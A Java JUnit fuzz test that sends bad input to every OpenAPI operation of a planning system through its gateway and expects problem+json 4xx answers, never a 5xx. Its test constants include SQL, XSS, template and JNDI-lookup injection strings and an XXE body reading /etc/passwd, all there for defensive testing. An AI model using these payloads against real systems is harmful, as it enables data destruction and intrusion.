package no.virksomhetsplan.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Bad input against every operation of every service's OpenAPI document, read through the gateway (a new endpoint is
 * covered without a change here), with a valid token of Fjordvik's administrator: wrong types, missing required
 * fields, 100 000-character strings, unusual unicode (RTL override, zero-width, NUL, a lone surrogate, emoji,
 * combining marks), SQL/script/template injection strings, malformed JSON, the wrong content type, path and query
 * parameters of the wrong type. Never a 5xx, and every 4xx in application/problem+json. Real ids of Fjordvik's data
 * fill the path, so the requests get past "not found" to the validation and the database. Runs in the fault phase of
 * dev/test (-Pe2e-faults): its accepted odd values stay in the data.
 */
@EnabledIfSystemProperty(named = "e2e.faults", matches = "true")
class BadInputTest {

    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Set<String> METHODS = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");
    private static final Pattern VARIABLE = Pattern.compile("\\{([^}]+)}");

    static final String HUGE = "Å".repeat(100_000);
    /** RTL override, zero-width space and joiner, emoji (with ZWJ), a combining mark, BOM, an Arabic ligature: storable. */
    static final String ODD_UNICODE = "\u202Eabc\u200B\u200D 👩‍👩‍👧 e\u0301 \uFEFF ﷽";
    /** NUL and a lone surrogate (escaped in the JSON text): no database stores them, so they must be refused as 400. */
    static final String UNSTORABLE = "a\u0000b\uD800c";
    static final String INJECTION = "'; DROP TABLE outbox_event; -- \" OR 1=1 <script>alert(1)</script> {{7*7}} ${jndi:ldap://example.invalid/a}";
    /** Query and path values stay below the gateway's 4 KB request-line limit: that limit answers before any service. */
    static final String LONG_PARAMETER = "x".repeat(2_000);

    record Operation(String service, String method, String template, JsonNode operation, JsonNode api) {

        @Override
        public String toString() {
            return method + " " + template;
        }
    }

    record Variant(String kind, String method, String path, String contentType, String body) {
    }

    private static List<Operation> operations;
    private static String admin;
    private static String topUnit;
    private static final Map<String, String> realIds = new ConcurrentHashMap<>();
    private static final Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
    private static final AtomicInteger requests = new AtomicInteger();
    private static final AtomicInteger throttled = new AtomicInteger();
    private static long started;

    @BeforeAll
    static void readEveryOperation() throws Exception {
        started = System.nanoTime();
        admin = RunningSystem.tokenFor("fjordvik", "marit.holm");
        JsonNode services = JSON.readTree(send("GET", "/api-docs/services", null, null).body());
        operations = new ArrayList<>();
        for (JsonNode service : services) {
            HttpResponse<String> doc = send("GET", service.path("url").asString(), null, null);
            assertThat(doc.statusCode()).as(service.toString()).isEqualTo(200);
            JsonNode api = JSON.readTree(doc.body());
            for (var path : api.path("paths").properties()) {
                for (var operation : path.getValue().properties()) {
                    String method = operation.getKey().toUpperCase(Locale.ROOT);
                    if (METHODS.contains(method)) {
                        operations.add(new Operation(service.path("name").asString(), method, path.getKey(), operation.getValue(), api));
                    }
                }
            }
        }
        assertThat(operations).as("operations in the OpenAPI documents").hasSizeGreaterThan(50);
        for (JsonNode unit : JSON.readTree(send("GET", "/api/plans/org-units", admin, null).body())) {
            if (unit.path("parentId").isNull()) {
                topUnit = unit.get("id").asString();
            }
        }
        assertThat(topUnit).as("Fjordvik's top unit").isNotNull();
    }

    @AfterAll
    static void summary() {
        System.out.printf("BAD-INPUT: %d operations, %d requests in %d s (%d throttled by the gateway and repeated); answers %s%n",
                operations == null ? 0 : operations.size(), requests.get(), (System.nanoTime() - started) / 1_000_000_000L,
                throttled.get(), new TreeMap<>(statuses.entrySet().stream()
                        .collect(java.util.stream.Collectors.toMap(Map.Entry::getKey, e -> e.getValue().get()))));
    }

    /** One test per operation: every variant of bad input, each answered below 500, every 4xx as problem+json. */
    @TestFactory
    Stream<DynamicTest> everyOperationAnswersBadInputWithA4xxProblemNeverA5xx() {
        return operations.stream().map(operation -> DynamicTest.dynamicTest(operation.toString(), () -> {
            List<String> failures = new ArrayList<>();
            for (Variant variant : variants(operation)) {
                HttpResponse<String> response = send(variant.method(), variant.path(), admin, variant.body(), variant.contentType());
                int status = response.statusCode();
                if (status >= 500 || status >= 400 && !isProblemJson(response)) {
                    failures.add(variant.kind() + ": " + describe(response));
                }
            }
            assertThat(failures).as(operation.toString()).isEmpty();
        }));
    }

    // --- the variants of one operation

    static List<Variant> variants(Operation operation) {
        List<Variant> variants = new ArrayList<>();
        String path = fillPath(operation);
        String query = query(operation, Map.of());

        // Path variables of the wrong type, and an injection string in the first one.
        Matcher variables = VARIABLE.matcher(operation.template());
        if (variables.find()) {
            String name = variables.group(1);
            String type = parameterSchema(operation, name).path("type").asString("string");
            String wrong = type.equals("integer") ? "99999999999999999999" : "not-a-uuid";
            variants.add(new Variant("path " + name + " of the wrong type", operation.method(),
                    replaceVariable(operation, name, wrong) + query, null, null));
            variants.add(new Variant("path " + name + " an injection string", operation.method(),
                    replaceVariable(operation, name, encode(INJECTION)) + query, null, null));
        }
        // Query parameters: each of the wrong type (a few), all required ones missing, odd and long strings.
        int wrongQueries = 0;
        for (JsonNode parameter : operation.operation().path("parameters")) {
            if (!parameter.path("in").asString().equals("query") || wrongQueries >= 3) {
                continue;
            }
            String name = parameter.path("name").asString();
            String type = parameter.path("schema").path("type").asString("string");
            String format = parameter.path("schema").path("format").asString("");
            List<String> wrongValues = switch (type) {
                case "integer" -> List.of("abc", "99999999999999999999", "-1");
                case "number" -> List.of("NaN", "1e999", "abc");
                case "boolean" -> List.of("maybe");
                default -> format.equals("date") ? List.of("2027-13-45", encode(INJECTION))
                        : format.equals("uuid") ? List.of("nope", encode(ODD_UNICODE))
                        : List.of(encode(ODD_UNICODE), encode(UNSTORABLE), LONG_PARAMETER, encode(INJECTION));
            };
            for (String wrong : wrongValues) {
                variants.add(new Variant("query " + name + "=" + abbreviate(wrong), operation.method(),
                        path + query(operation, Map.of(name, wrong)), null, null));
            }
            wrongQueries++;
        }
        if (!query.isEmpty()) {
            variants.add(new Variant("required query parameters missing", operation.method(), path, null, null));
        }

        // Bodies.
        JsonNode content = operation.operation().path("requestBody").path("content");
        if (content.has("application/json")) {
            variants.addAll(jsonBodies(operation, path + query, resolve(operation.api(), content.path("application/json").path("schema"))));
        } else if (content.has("text/csv")) {
            String target = path + query;
            variants.add(new Variant("CSV with garbage", operation.method(), target, "text/csv", "\u0000;;;\"unclosed\n" + INJECTION + "\n"));
            variants.add(new Variant("CSV with odd unicode", operation.method(), target, "text/csv", "a;b;c\n" + ODD_UNICODE + ";x;y\n"));
            variants.add(new Variant("CSV with a 100k line", operation.method(), target, "text/csv", "a;b;c\n" + HUGE + ";x;y\n"));
            variants.add(new Variant("JSON where CSV is expected", operation.method(), target, "application/json", "{\"a\":1}"));
        } else if (!content.isMissingNode() && content.size() > 0) {
            variants.add(new Variant("malformed body", operation.method(), path + query, content.properties().iterator().next().getKey(),
                    "{\"unclosed\": "));
        }
        return variants;
    }

    private static List<Variant> jsonBodies(Operation operation, String target, JsonNode schema) {
        String method = operation.method();
        JsonNode api = operation.api();
        JsonNode sample = sample(api, schema, "body", 0);
        List<Variant> bodies = new ArrayList<>();
        bodies.add(new Variant("malformed JSON", method, target, "application/json", "{\"name\": \"x\","));
        bodies.add(new Variant("empty body", method, target, "application/json", ""));
        bodies.add(new Variant("an array where an object belongs", method, target, "application/json", "[1,2,3]"));
        bodies.add(new Variant("wrong content type", method, target, "text/plain", sample.toString()));
        bodies.add(new Variant("XML", method, target, "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"));
        if (!(sample instanceof ObjectNode object)) {
            bodies.add(new Variant("wrong type", method, target, "application/json", "{\"not\":\"expected\"}"));
            return bodies;
        }
        bodies.add(new Variant("required fields missing", method, target, "application/json", "{}"));
        JsonNode properties = resolve(api, schema).path("properties");
        ObjectNode allWrong = object.deepCopy();
        int single = 0;
        for (var property : properties.properties()) {
            JsonNode wrong = wrongType(resolve(api, property.getValue()));
            allWrong.set(property.getKey(), wrong);
            if (single++ < 3) {
                ObjectNode one = object.deepCopy();
                one.set(property.getKey(), wrong);
                bodies.add(new Variant("field " + property.getKey() + " of the wrong type", method, target, "application/json", one.toString()));
            }
        }
        bodies.add(new Variant("every field of the wrong type", method, target, "application/json", allWrong.toString()));
        Iterator<String> required = resolve(api, schema).path("required").valueStream().map(JsonNode::asString).iterator();
        if (required.hasNext()) {
            ObjectNode missing = object.deepCopy();
            String name = required.next();
            missing.remove(name);
            bodies.add(new Variant("required field " + name + " missing", method, target, "application/json", missing.toString()));
        }
        bodies.add(new Variant("100 000-character strings", method, target, "application/json", withStrings(object, HUGE).toString()));
        bodies.add(new Variant("odd unicode", method, target, "application/json", withStrings(object, ODD_UNICODE).toString()));
        bodies.add(new Variant("NUL and a lone surrogate", method, target, "application/json", withStrings(object, UNSTORABLE).toString()
                // A lone surrogate cannot travel as UTF-8: it goes as its JSON escape, as a careless client would send it.
                .replace("\uD800", "\\ud800")));
        bodies.add(new Variant("injection strings", method, target, "application/json", withStrings(object, INJECTION).toString()));
        return bodies;
    }

    /** Every string in the sample (at any depth) replaced by {@code value}. */
    private static JsonNode withStrings(JsonNode node, String value) {
        if (node.isString()) {
            return NODES.stringNode(value);
        }
        if (node instanceof ObjectNode object) {
            ObjectNode copy = NODES.objectNode();
            object.properties().forEach(entry -> copy.set(entry.getKey(), withStrings(entry.getValue(), value)));
            return copy;
        }
        if (node instanceof ArrayNode array) {
            ArrayNode copy = NODES.arrayNode();
            array.forEach(item -> copy.add(withStrings(item, value)));
            return copy;
        }
        return node;
    }

    private static JsonNode wrongType(JsonNode schema) {
        return switch (type(schema)) {
            case "string" -> NODES.objectNode().put("an", "object");
            case "integer", "number" -> NODES.stringNode("not a number");
            case "boolean" -> NODES.stringNode("maybe");
            case "array" -> NODES.stringNode("not an array");
            default -> NODES.arrayNode().add(1);
        };
    }

    /** A plausible value for a schema: what a well-behaved client would send, the base the variants change. */
    private static JsonNode sample(JsonNode api, JsonNode schemaOrRef, String name, int depth) {
        JsonNode schema = resolve(api, schemaOrRef);
        if (schema.path("enum").isArray() && !schema.path("enum").isEmpty()) {
            return schema.path("enum").get(0);
        }
        String lower = name.toLowerCase(Locale.ROOT);
        return switch (type(schema)) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 4) {
                    for (var property : schema.path("properties").properties()) {
                        object.set(property.getKey(), sample(api, property.getValue(), property.getKey(), depth + 1));
                    }
                }
                yield object;
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (depth < 4) {
                    array.add(sample(api, schema.path("items"), name, depth + 1));
                }
                yield array;
            }
            case "integer" -> NODES.numberNode(lower.contains("year") ? 2027
                    : lower.contains("version") ? 0 : Math.max(1, schema.path("minimum").asLong(1)));
            case "number" -> NODES.numberNode(1.5);
            case "boolean" -> NODES.booleanNode(true);
            default -> NODES.stringNode(sampleString(schema, lower));
        };
    }

    private static String sampleString(JsonNode schema, String name) {
        String format = schema.path("format").asString("");
        String pattern = schema.path("pattern").asString("");
        return switch (format) {
            case "uuid" -> name.contains("unit") || name.contains("parent") ? topUnit : UUID.randomUUID().toString();
            case "date" -> "2027-03-01";
            case "date-time" -> "2027-03-01T10:00:00Z";
            default -> pattern.contains("nb") ? "nb" : pattern.startsWith("[A-Z]") ? "PROVE" : pattern.isEmpty() ? "Prøve" : "x";
        };
    }

    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode each : type) {
                if (!each.asString().equals("null")) {
                    return each.asString();
                }
            }
        }
        if (type.isString()) {
            return type.asString();
        }
        return schema.has("properties") ? "object" : "string";
    }

    private static JsonNode resolve(JsonNode api, JsonNode schema) {
        JsonNode current = schema;
        for (int i = 0; i < 10 && current.has("$ref"); i++) {
            String ref = current.path("$ref").asString();
            current = api.at(ref.substring(1));
        }
        if (current.has("allOf") && current.path("allOf").size() == 1) {
            return resolve(api, current.path("allOf").get(0));
        }
        return current;
    }

    // --- paths with real ids

    /** The path with every variable filled: real ids where a collection lists some. */
    private static String fillPath(Operation operation) {
        return fillPathWith(operation, null, null);
    }

    /** The same, with {@code value} for {@code variable}. */
    private static String replaceVariable(Operation operation, String variable, String value) {
        return fillPathWith(operation, variable, value);
    }

    private static String fillPathWith(Operation operation, String variable, String value) {
        Matcher variables = VARIABLE.matcher(operation.template());
        StringBuilder path = new StringBuilder();
        while (variables.find()) {
            String name = variables.group(1);
            variables.appendReplacement(path, "");
            path.append(name.equals(variable) ? value : valueFor(operation, name, path.toString()));
        }
        variables.appendTail(path);
        return path.toString();
    }

    /**
     * A year for a year, a number for a number; for an id, the first id in the collection the path so far names
     * (e.g. {@code /api/plans/goals/} for {@code {id}} of {@code /api/plans/goals/{id}}), or a random one.
     */
    private static String valueFor(Operation operation, String name, String prefix) {
        JsonNode schema = parameterSchema(operation, name);
        String type = schema.path("type").asString("string");
        if (name.toLowerCase(Locale.ROOT).contains("year")) {
            return "2027";
        }
        if (type.equals("integer") || type.equals("number")) {
            return "1";
        }
        String collection = prefix.endsWith("/") ? prefix.substring(0, prefix.length() - 1) : prefix;
        return realIds.computeIfAbsent(collection, BadInputTest::firstIdIn);
    }

    private static String firstIdIn(String collection) {
        try {
            HttpResponse<String> list = send("GET", collection + (collection.contains("?") ? "&" : "?") + "year=2027", admin, null);
            if (list.statusCode() == 200) {
                JsonNode body = JSON.readTree(list.body());
                JsonNode items = body.isArray() ? body : body.path("items");
                for (JsonNode item : items) {
                    if (item.hasNonNull("id")) {
                        return item.get("id").asString();
                    }
                }
            }
        } catch (Exception e) {
            // no list there: a random id does as well
        }
        return collection.endsWith("/org-units") ? topUnit : UUID.randomUUID().toString();
    }

    private static JsonNode parameterSchema(Operation operation, String name) {
        for (JsonNode parameter : operation.operation().path("parameters")) {
            if (parameter.path("name").asString().equals(name)) {
                return parameter.path("schema");
            }
        }
        return JSON.missingNode();
    }

    /** The required query parameters with plausible values, and {@code overrides} (already encoded) on top. */
    private static String query(Operation operation, Map<String, String> overrides) {
        Map<String, String> pairs = new LinkedHashMap<>();
        for (JsonNode parameter : operation.operation().path("parameters")) {
            String name = parameter.path("name").asString();
            if (parameter.path("in").asString().equals("query") && parameter.path("required").asBoolean(false)) {
                JsonNode schema = parameter.path("schema");
                String type = schema.path("type").asString("string");
                String format = schema.path("format").asString("");
                pairs.put(name, name.toLowerCase(Locale.ROOT).contains("year") ? "2027"
                        : type.equals("integer") || type.equals("number") ? "1"
                        : format.equals("date") ? "2027-03-01"
                        : format.equals("uuid") ? topUnit : "x");
            }
        }
        pairs.putAll(overrides);
        if (pairs.isEmpty()) {
            return "";
        }
        List<String> parts = new ArrayList<>();
        pairs.forEach((name, value) -> parts.add(name + "=" + value));
        return "?" + String.join("&", parts);
    }

    // --- HTTP

    private static HttpResponse<String> send(String method, String path, String token, String body) throws Exception {
        return send(method, path, token, body, body == null ? null : "application/json");
    }

    /** Repeats a request the gateway throttled (429, its per-person rate limit), so every variant reaches a service. */
    private static HttpResponse<String> send(String method, String path, String token, String body, String contentType) throws Exception {
        for (int attempt = 0; ; attempt++) {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(RunningSystem.GATEWAY + path))
                    .timeout(Duration.ofSeconds(30))
                    .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
            if (token != null) {
                request.header("Authorization", "Bearer " + token);
            }
            if (contentType != null) {
                request.header("Content-Type", contentType);
            }
            HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
            if (response.statusCode() == 429 && attempt < 20) {
                throttled.incrementAndGet();
                long wait = response.headers().firstValue("Retry-After").map(Long::parseLong).orElse(1L);
                Thread.sleep(Math.min(wait, 2) * 1000);
                continue;
            }
            requests.incrementAndGet();
            statuses.computeIfAbsent(response.statusCode(), status -> new AtomicInteger()).incrementAndGet();
            return response;
        }
    }

    private static boolean isProblemJson(HttpResponse<String> response) {
        if (!response.headers().firstValue("Content-Type").map(type -> type.startsWith("application/problem+json")).orElse(false)) {
            return false;
        }
        try {
            return JSON.readTree(response.body()).path("status").asInt() == response.statusCode();
        } catch (RuntimeException e) {
            return false;
        }
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 40) + "...(" + value.length() + ")" : value;
    }

    private static String describe(HttpResponse<String> response) {
        String body = response.body();
        String uri = response.request().uri().toString();
        return response.request().method() + " " + abbreviate(uri.length() > 200 ? uri.substring(0, 200) : uri) + " -> "
                + response.statusCode() + " " + response.headers().firstValue("Content-Type").orElse("(no content type)") + " "
                + (body.length() > 300 ? body.substring(0, 300) + "..." : body);
    }
}
